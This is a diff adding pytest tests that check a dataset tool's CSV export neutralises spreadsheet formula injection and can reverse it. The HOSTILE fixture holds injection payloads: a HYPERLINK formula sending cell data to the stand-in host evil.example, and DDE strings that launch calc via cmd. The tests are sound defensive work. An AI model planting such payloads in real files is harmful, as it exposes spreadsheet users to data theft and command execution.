@@ -241,3 +241,62 @@ def test_report_on_a_folder_that_is_not_a_dataset_exits_2(tmp_path, capsys):
     err = capsys.readouterr().err.splitlines()
     assert len(err) == 1 and "no manifest.json" in err[0] and err[0].startswith("cchc-nlp report: error:")
     shutil.rmtree(tmp_path / "notes")
+
+
+# --------------------------------------------------------------------------- hostile cells
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "author": "+cmd|' /C calc'!A0",
+    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "url": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, capsys):
+    import csv
+
+    record = {**Sample(30).record(), **HOSTILE}
+    record["text"] = "=1+1\n" + record["text"]
+    corpus = tmp_path / "corpus"
+    good = _good(corpus, n=2)
+    (corpus / "records.jsonl").write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
+    good.add(f"{corpus / 'records.jsonl'}:1")
+    for fmt in ("csv", "jsonl", "parquet"):
+        out = tmp_path / fmt
+        assert _extract(capsys, str(corpus), "--out", str(out), "--format", fmt)[0] == 0
+        ds = _assert_tables(out, good)
+        row = ds.articles.set_index("path").loc[f"{corpus / 'records.jsonl'}:1"]
+        for column, value in HOSTILE.items():  # the tables read back hold the exact values
+            assert row[column] == value, (fmt, column)
+        assert row["text"].startswith("=1+1")
+    with open(tmp_path / "csv" / "articles.csv", encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    hostile = next(r for r in rows if r["path"].endswith("records.jsonl:1"))
+    for column, value in HOSTILE.items():
+        assert hostile[column] == "'" + value
+    assert hostile["text"].startswith("'=1+1")
+    for cells in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells.values() if cell), cells
+
+
+def test_csv_neutralisation_touches_text_columns_only_and_is_reversible(tmp_path):
+    import pyarrow as pa
+
+    from cchc_nlp.dataset.tables import SCHEMAS, read_table, write_table
+
+    values = ["=1+1", "'=x", "''@y", "-5 hồ sơ", "\tindented", "\rreturn", "'quoted", "plain", None]
+    schema = SCHEMAS["metrics"]
+    rows = [{name: None for name in schema.names} for _ in values]
+    for row, value, number in zip(rows, values, range(-4, 5), strict=True):
+        row.update(doc_id="d", metric="dossier.received", subject=value, value=float(number), start=number)
+    data = pa.Table.from_pylist(rows, schema=schema)
+    write_table(data, tmp_path / "m.csv", "csv")
+    raw = (tmp_path / "m.csv").read_bytes().decode("utf-8")
+    for written in ("'=1+1", "''=x", "'''@y", "'-5 hồ sơ", "'\tindented", "'\rreturn", "'quoted", "plain"):
+        assert f'"{written}"' in raw, written
+    assert ",-4," in raw  # a negative number in a numeric column is a number, not a formula
+    assert read_table(tmp_path / "m.csv", "metrics", "csv").equals(data)
+    for fmt in ("parquet", "jsonl"):
+        write_table(data, tmp_path / f"m.{fmt}", fmt)
+        assert read_table(tmp_path / f"m.{fmt}", "metrics", fmt).equals(data)
